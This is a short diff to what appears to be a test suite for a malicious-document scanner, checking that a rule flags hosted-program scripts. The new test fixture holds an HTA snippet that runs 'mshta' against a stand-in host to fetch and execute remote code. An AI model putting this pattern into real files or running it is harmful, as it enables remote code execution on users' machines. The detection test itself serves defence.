@@ -184,7 +184,9 @@ suite('each rule finds its technique', () => {
     [
       'Docvet.Script.HostedProgram',
       'malicious',
-      Buffer.from('<html><hta:application><script>new ActiveXObject("WScript.Shell")</script>'),
+      Buffer.from(
+        '<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("mshta http://a.example/")</script>',
+      ),
     ],
     [
       'Docvet.Embedded.Shortcut',
